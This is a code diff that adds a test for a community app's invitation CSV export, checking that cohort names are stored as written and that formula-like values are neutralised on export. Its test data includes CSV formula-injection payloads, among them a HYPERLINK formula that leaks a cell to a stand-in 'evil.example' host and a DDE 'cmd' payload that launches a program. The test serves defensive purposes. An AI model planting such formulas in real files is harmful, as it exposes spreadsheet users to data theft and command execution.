@@ -1,6 +1,6 @@
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { invitations, mailMessages } from '../../db/schema/index.ts';
+import { invitations, mailMessages, users } from '../../db/schema/index.ts';
 import { getTestApp, requester, type TestApp } from '../../test/app.ts';
 import {
   createTestCommunity,
@@ -234,6 +234,59 @@ describe('cohort CSV', () => {
       `ben-${stamp}@example.test`,
       `dee-${stamp}@example.test`,
     ]);
+  });
+
+  it('keeps cohort names as written and neutralises formulas in the exported CSV', async () => {
+    const leader = await signedInUser(t.app);
+    await db().update(users).set({ displayName: '@Leader Formula' }).where(eq(users.id, leader.user.id));
+    const member = await signedInUser(t.app);
+    const community = await createTestCommunity(db(), [leader.user.id], {
+      members: [[member.user.id, 'member']],
+    });
+    const stamp = Date.now();
+    const names = [
+      '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+      '+1+1',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(A1:A9)',
+      'Ana Silva',
+    ];
+    const csv = [
+      'email,name',
+      ...names.map((name, i) => `p${i}-${stamp}@example.test,"${name.replaceAll('"', '""')}"`),
+    ].join('\n');
+    expect((await upload(community.slug, leader.cookie, csv, false)).json().data.invited).toBe(5);
+    const stored = await db().select().from(invitations).where(eq(invitations.communityId, community.id));
+    expect(stored.map((row) => row.name).sort()).toEqual([...names].sort());
+    const listed = (
+      await call('GET', `/api/communities/${community.slug}/invitations`, leader.cookie)
+    ).json();
+    expect(listed.data.map((row: { name: string }) => row.name).sort()).toEqual([...names].sort());
+
+    const url = `/api/communities/${community.slug}/invitations/csv`;
+    const exported = await call('GET', url, leader.cookie);
+    expect(exported.statusCode).toBe(200);
+    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(exported.headers['content-disposition']).toBe(
+      `attachment; filename="invitations-${community.slug}.csv"`,
+    );
+    const lines = exported.body
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
+    expect(lines[0]).toBe('Email,Name,Kind,Role,Status,Invited by,Sent (UTC),Expires (UTC),Uses');
+    expect(lines).toHaveLength(6);
+    const line = (i: number) => lines.find((text) => text.startsWith(`p${i}-${stamp}@example.test,`)) ?? '';
+    expect(line(0)).toContain(
+      `,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",Email invitation,Member,Open,'@Leader Formula,`,
+    );
+    expect(line(1)).toContain(",'+1+1,");
+    expect(line(2)).toContain(`,'-2+3+cmd|' /C calc'!A0,`);
+    expect(line(3)).toContain(",'@SUM(A1:A9),");
+    expect(line(4)).toContain(',Ana Silva,');
+    for (const text of lines.slice(1)) expect(text).toMatch(/,0$/);
+    expect((await call('GET', url, member.cookie)).statusCode).toBe(403);
+    expect((await call('GET', url)).statusCode).toBe(401);
   });
 
   it('refuses a wrong header, a binary file, an empty file and 10,000 rows, writing nothing', async () => {
